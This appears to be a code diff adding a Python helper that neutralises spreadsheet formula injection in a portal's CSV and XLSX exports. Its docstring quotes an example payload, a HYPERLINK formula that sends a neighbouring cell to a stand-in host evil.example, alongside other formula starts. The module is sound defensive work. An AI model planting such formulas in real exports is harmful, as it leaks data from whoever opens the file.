@@ -1,0 +1,63 @@
+"""The one writer of spreadsheet cells: every CSV and XLSX the portal writes.
+
+A text a spreadsheet program reads as a formula is an attack on whoever opens
+the file: ``=HYPERLINK("http://evil.example/?leak="&B2,"Details")`` as a
+project title sends the neighbouring cell away, ``+RT-1`` or ``-1+1`` compute,
+``@SUM(...)`` calls a function; a leading tab or carriage return hides such
+a start from a naive check. So:
+
+- in CSV, a text that begins with ``= + - @``, a tab or a carriage return is
+  written with a leading apostrophe (``'=HYPERLINK(...)``), which spreadsheet
+  programs show as text (``csv_text``);
+- in XLSX, every text is a text cell (``t="inlineStr"``, never a formula, which
+  openpyxl would otherwise make of a leading ``=``), and one that looks like a
+  formula is marked *quotePrefix* as well — Excel's own mark of "typed with an
+  apostrophe" — so it stays text even when someone edits the cell
+  (``xlsx_cell``).
+
+Numbers are not text: amounts stay numbers in XLSX and plain decimals in CSV
+(the database holds every amount at zero or above, so none starts with "-").
+"""
+
+from typing import Any
+
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.utils.exceptions import IllegalCharacterError
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_FORMULA_FIRST = frozenset("".join(FORMULA_START))
+
+
+def csv_text(value: str) -> str:
+    """A text for a CSV field, neutralised if a spreadsheet would compute it."""
+    return f"'{value}" if value.startswith(FORMULA_START) else value
+
+
+def csv_texts(row: list, indexes: list[int]) -> None:
+    """Neutralise, in place, the values at ``indexes`` of a row — texts or None —
+    as ``csv_text`` does: one look at the first character of each, about 1 µs
+    per row of the grants export."""
+    for index in indexes:
+        value = row[index]
+        if value and value[0] in _FORMULA_FIRST:
+            row[index] = f"'{value}"
+
+
+def xlsx_cell(sheet: Any, value: Any, *, number_format: str = "") -> Any:
+    """A cell of a write-only sheet: texts as text, everything else as openpyxl types it.
+
+    Control characters XML cannot hold (stored before the text fields refused
+    them) are dropped instead of failing the whole file."""
+    try:
+        cell = WriteOnlyCell(sheet, value=value)
+    except IllegalCharacterError:
+        value = ILLEGAL_CHARACTERS_RE.sub("", value)
+        cell = WriteOnlyCell(sheet, value=value)
+    if isinstance(value, str):
+        cell.data_type = "s"
+        if value.startswith(FORMULA_START):
+            cell.quotePrefix = True
+    if number_format:
+        cell.number_format = number_format
+    return cell
